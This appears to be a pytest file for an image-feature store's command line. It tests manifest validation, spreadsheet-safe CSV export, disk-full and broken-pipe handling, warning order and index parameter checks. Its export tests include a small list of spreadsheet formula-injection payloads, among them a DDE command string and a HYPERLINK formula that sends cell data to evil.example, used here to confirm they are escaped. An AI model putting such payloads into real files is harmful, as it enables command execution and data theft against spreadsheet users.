"""Trust, round 3 (issue 30): the cases of the issue through the real CLI, on real files.

Manifests (repeated columns, over-long fields, URLs), spreadsheet-safe exports, a full disk and a
broken stdout, RANDOM WEIGHTS before any warning, and index parameters the store's size cannot take."""

import csv
import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

import item
from item.cli import app

SAMPLES = Path(item.__file__).resolve().parent / "samples"
PICKS = [("real/000000458054.jpg", "real", "train"), ("real/000000361919.jpg", "real", "train"),
         ("real/000000553664.jpg", "real", "val"), ("real/coffee.png", "real", "test"),
         ("fake/000001.1863159593.png", "fake", "train"), ("fake/000002.1151955949.png", "fake", "train"),
         ("fake/000003.2736230502.png", "fake", "val"), ("fake/sdturbo_sdxlturbo_example.png", "fake", "test")]


def run(*args, env=None):
    return CliRunner().invoke(app, [str(a) for a in args], env=env)


def ok(*args):
    r = run(*args)
    assert r.exit_code == 0, (r.stdout, r.stderr, r.exception)
    return r


def one_error_line(r) -> str:
    assert r.exit_code != 0, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr and r.exception is None or isinstance(r.exception, SystemExit), r.exception
    lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
    errors = [ln for ln in lines if ln.startswith("error")]
    assert len(errors) == 1, lines
    return errors[0]


def _manifest(path: Path, rows, header=("path", "label", "generator", "split", "caption")) -> Path:
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(header)
        w.writerows(rows)
    return path


def _rows(picks=PICKS, caption=None):
    return [[str(SAMPLES / p), lab, "camera" if lab == "real" else "sd", split, caption or ""]
            for p, lab, split in picks]


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    base = tmp_path_factory.mktemp("round3")
    s = base / "store"
    ok("featurize", _manifest(base / "m.csv", _rows()), "--store", s, "--models", "tiny-random", "--workers", "0")
    return s


# -- (10) manifests ------------------------------------------------------------------------------------
def test_featurize_lists_a_10mb_caption_and_a_url_as_their_rows_and_featurizes_the_rest(tmp_path):
    rows = _rows(PICKS[:3]) + [[str(SAMPLES / PICKS[3][0]), "real", "camera", "test", "x" * 10_000_000],
                               ["http://127.0.0.1:1/x.jpg", "fake", "sd", "test", ""]]
    r = ok("featurize", _manifest(tmp_path / "m.csv", rows), "--store", tmp_path / "s", "--models", "tiny-random",
           "--workers", "0")
    assert "m.csv:5" in r.stderr and "'caption' field has 10,000,000 characters" in r.stderr
    assert "m.csv:6" in r.stderr and "URLs are not supported: download the files first" in r.stderr
    assert "http:/127" not in r.stderr and "field larger than field limit" not in r.stderr
    info = json.loads(ok("store", "info", tmp_path / "s", "--json").stdout)
    assert info["n_ok"] == 3


def test_a_column_given_twice_is_refused_in_one_line_by_featurize_and_annotate(tmp_path, store):
    m = _manifest(tmp_path / "m.csv", [[str(SAMPLES / PICKS[0][0]), "real", "fake"]], header=("path", "label", "label"))
    line = one_error_line(run("featurize", m, "--store", tmp_path / "s", "--models", "tiny-random", "--workers", "0"))
    assert "column 'label' is given twice" in line
    assert not (tmp_path / "s").exists() or not list((tmp_path / "s").glob("shards/*.h5"))
    line = one_error_line(run("store", "annotate", store, m))
    assert "column 'label' is given twice" in line


def test_annotate_refuses_a_url_and_a_field_of_megabytes_in_one_line(tmp_path, store):
    before = (store / "overlay.json").read_bytes() if (store / "overlay.json").exists() else None
    m = _manifest(tmp_path / "u.csv", [["https://example.org/x.jpg", "fake"]], header=("path", "label"))
    assert "URLs are not supported: download the files first" in one_error_line(run("store", "annotate", store, m))
    m = _manifest(tmp_path / "big.csv", [[str(SAMPLES / PICKS[0][0]), "fake", "g" * 2_000_000]],
                  header=("path", "label", "generator"))
    assert "'generator' field has 2,000,000 characters" in one_error_line(run("store", "annotate", store, m))
    after = (store / "overlay.json").read_bytes() if (store / "overlay.json").exists() else None
    assert before == after  # nothing was annotated


# -- (5) exports a spreadsheet cannot run ------------------------------------------------------------
HOSTILE = ["=cmd|' /C calc'!A1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
           "\uff1dSUM(A1)", "=1"]


def test_export_writes_formula_cells_as_text_and_parquet_keeps_them(tmp_path):
    import pyarrow.parquet as pq

    rows = []
    for i, (p, lab, split) in enumerate(PICKS[:len(HOSTILE)]):
        rows.append([str(SAMPLES / p), lab, HOSTILE[i], split, HOSTILE[-1 - i] + " a dog on a beach"])
    s = tmp_path / "s"
    ok("featurize", _manifest(tmp_path / "m.csv", rows), "--store", s, "--models", "tiny-random", "--workers", "0")
    ok("store", "export", s, "--out", tmp_path / "meta.csv")
    raw = (tmp_path / "meta.csv").read_text(encoding="utf-8")
    cells = [c for rec in csv.reader(raw.splitlines()) for c in rec]
    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert not [c for c in cells if c.startswith(starts)], [c for c in cells if c.startswith(starts)]
    exported = list(csv.DictReader(raw.splitlines()))
    assert sorted(r["generator"] for r in exported) == sorted("'" + g for g in HOSTILE)
    assert all(r["caption"].startswith("'") for r in exported)
    # Parquet keeps the raw values
    ok("store", "export", s, "--out", tmp_path / "meta.parquet")
    table = pq.read_table(tmp_path / "meta.parquet").to_pydict()
    assert sorted(table["generator"]) == sorted(HOSTILE)
    # the export, given back to annotate (e.g. after editing splits in a spreadsheet), holds the store's values
    edited = tmp_path / "edited.csv"
    with open(edited, "w", newline="") as f:
        w = csv.DictWriter(f, ["id", "generator", "split"])
        w.writeheader()
        w.writerows({"id": r["id"], "generator": r["generator"], "split": "test"} for r in exported)
    ok("store", "annotate", s, edited)
    ok("store", "export", s, "--out", tmp_path / "again.parquet")
    again = pq.read_table(tmp_path / "again.parquet").to_pydict()
    assert sorted(again["generator"]) == sorted(HOSTILE) and set(again["split"]) == {"test"}


def test_safe_cell_covers_every_formula_start_and_leaves_numbers():
    from item.spreadsheet import FORMULA_STARTS, safe_cell, unescape_cell

    for start in FORMULA_STARTS:
        v = start + "x"
        assert safe_cell(v) == "'" + v and unescape_cell(safe_cell(v)) == v
    for v in ("a dog", "'quoted", "", "1.5", " =spaced"):
        assert safe_cell(v) == v and unescape_cell(v) == v
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None


# -- (9) a full disk and a broken stdout -------------------------------------------------------------
def _tree(root: Path) -> dict:
    import hashlib

    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and not p.name.endswith(".lock")}


@pytest.fixture()
def copied(store, tmp_path):
    import shutil

    s = tmp_path / "store"
    shutil.copytree(store, s)
    return s


@pytest.mark.parametrize("command", ["split", "annotate"])
@pytest.mark.parametrize("fault", ["overlay-tmp:1:raise=ENOSPC", "overlay-tmp:1:raise=EIO"])
def test_split_and_annotate_on_a_full_disk_are_one_line_and_the_store_is_intact(copied, tmp_path, monkeypatch,
                                                                                  command, fault):
    from item import faults
    from item.store import validate

    labels = _manifest(tmp_path / "labels.csv", [[str(SAMPLES / PICKS[0][0]), "fake", "test"]],
                       header=("path", "label", "split"))
    args = ["store", "split", copied, "--overwrite"] if command == "split" else ["store", "annotate", copied, labels]
    before = _tree(copied)
    monkeypatch.setattr(faults, "_hits", {})
    monkeypatch.setenv("ITEM_FAULT", fault)
    line = one_error_line(run(*args, "--json"))
    assert ("No space left on device" if "ENOSPC" in fault else "Input/output error") in line
    assert "overlay" in line and "nothing was changed" in line
    assert _tree(copied) == before  # no overlay, no temporary file left behind
    assert validate(copied).ok
    monkeypatch.delenv("ITEM_FAULT")
    out = json.loads(ok(*args, "--json").stdout)  # room again: the same command works
    assert out["overlay_version"] == 1 and out["n_changed"] >= 1


def _subprocess(args, stdout):
    import subprocess
    import sys

    env = dict(os.environ, PYTHONPATH=str(Path(item.__file__).resolve().parents[1]))
    return subprocess.run([sys.executable, "-m", "item", *map(str, args)], stdout=stdout, stderr=subprocess.PIPE,
                          env=env, timeout=300)


@pytest.fixture(scope="module")
def head(store, tmp_path_factory):
    out = tmp_path_factory.mktemp("round3-head") / "head"
    ok("train", store, "--out", out, "--kind", "logistic")
    return out


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("which", ["info", "info --json", "validate", "validate --json", "eval --json", "split --json",
                                   "annotate"])
def test_a_full_stdout_is_one_line_and_the_store_is_intact(copied, head, tmp_path, which):
    from item.store import validate

    labels = _manifest(tmp_path / "labels.csv", [[str(SAMPLES / PICKS[0][0]), "fake"]], header=("path", "label"))
    name, *flags = which.split()
    args = {"info": ["store", "info", copied], "validate": ["store", "validate", copied],
            "eval": ["eval", copied, "--head", head], "split": ["store", "split", copied, "--overwrite"],
            "annotate": ["store", "annotate", copied, labels]}[name] + flags
    with open("/dev/full", "w") as full:
        p = _subprocess(args, full)
    err = p.stderr.decode()
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert p.returncode == 1, err
    from item.console import RANDOM_WEIGHTS_LINE

    lines = [ln for ln in lines if ln != RANDOM_WEIGHTS_LINE]  # --json says it on stderr (the store is random)
    assert lines == ["error: cannot write to standard output: No space left on device"], err
    assert validate(copied).ok


def test_a_closed_pipe_on_stdout_is_one_line(copied):
    r, w = os.pipe()
    os.close(r)
    try:
        p = _subprocess(["store", "info", copied], w)
    finally:
        os.close(w)
    lines = [ln for ln in p.stderr.decode().splitlines() if ln.strip()]
    assert p.returncode == 1 and lines == ["error: cannot write to standard output: Broken pipe"], lines


# -- (12) RANDOM WEIGHTS before any warning --------------------------------------------------------------
@pytest.fixture(scope="module")
def mixed_captions(tmp_path_factory):
    """A store whose reals carry the dataset's captions and whose fakes were captioned: train and eval warn."""
    base = tmp_path_factory.mktemp("round3-captions")
    rows = [[str(SAMPLES / p), lab, "camera" if lab == "real" else "sd", split, "a photo of a dog" if lab == "real"
             else ""] for p, lab, split in PICKS]
    s = base / "store"
    ok("featurize", _manifest(base / "m.csv", rows), "--store", s, "--models", "tiny-random", "--workers", "0")
    return s


@pytest.mark.parametrize("as_json", [False, True])
def test_random_weights_is_the_first_line_before_the_caption_warnings(mixed_captions, tmp_path, as_json):
    from item.console import RANDOM_WEIGHTS_LINE

    flag = ["--json"] if as_json else []
    for args in (["train", mixed_captions, "--out", tmp_path / "h", "--kind", "logistic", *flag],
                 ["train", mixed_captions, "--out", tmp_path / "h2", "--head", "logistic", *flag],  # deprecated alias
                 ["eval", mixed_captions, "--head", tmp_path / "h", *flag]):
        r = ok(*args)
        lines = [ln for ln in r.output.splitlines() if ln.strip()]  # stdout and stderr, in the order written
        assert lines[0] == RANDOM_WEIGHTS_LINE, (args, lines[:3])
        assert any(ln.startswith("warning: ") and "captions" in ln for ln in lines), lines
        assert sum(ln == RANDOM_WEIGHTS_LINE for ln in lines) == 1
        if as_json:
            assert json.loads(r.stdout)["random_weights"] is True  # stdout is the JSON document alone
        else:
            assert r.stdout.splitlines()[0] == RANDOM_WEIGHTS_LINE


# -- (1, library side) index parameters the store's size cannot take ------------------------------------
@pytest.mark.parametrize("flags,words", [
    (["--kind", "ivfsq", "--nlist", "1000"], ["--nlist 1000", "give 1..8"]),
    (["--kind", "ivfpq", "--nlist", "9"], ["--nlist 9", "give 1..8"]),
    (["--kind", "ivfpq4", "--nlist", "4"], ["ivfpq4", "16 centroids"]),
    # values that are wrong whatever the store (the command line's own ranges may refuse them first: only the
    # flag's name is asserted)
    (["--kind", "hnsw", "--hnsw-m", "0"], ["--hnsw-m"]),
    (["--kind", "hnsw", "--hnsw-m", "1"], ["--hnsw-m"]),
    (["--kind", "hnsw", "--ef-search", "0"], ["--ef-search"]),
    (["--kind", "ivfpq", "--pq-m", "-4"], ["--pq-m"]),
])
def test_index_parameters_faiss_cannot_take_are_one_line_before_faiss(copied, flags, words):
    before = _tree(copied)
    line = one_error_line(run("store", "index", copied, *flags))
    assert all(w in line for w in words), line
    assert _tree(copied) == before  # no index, no half-written file


def test_check_params_in_the_library_without_the_cli():
    from item.errors import InputError
    from item.store.index import _auto_params, check_params

    with pytest.raises(InputError, match="--nlist 1000"):
        check_params("ivfsq", 44, 32, _auto_params("ivfsq", 44, 32, {"nlist": 1000}))
    check_params("ivfsq", 44, 32, _auto_params("ivfsq", 44, 32, {"nlist": 44}))  # as many lists as rows is fine
    with pytest.raises(InputError, match="--hnsw-m 0"):
        check_params("hnsw", 44, 32, _auto_params("hnsw", 44, 32, {"M": 0}))
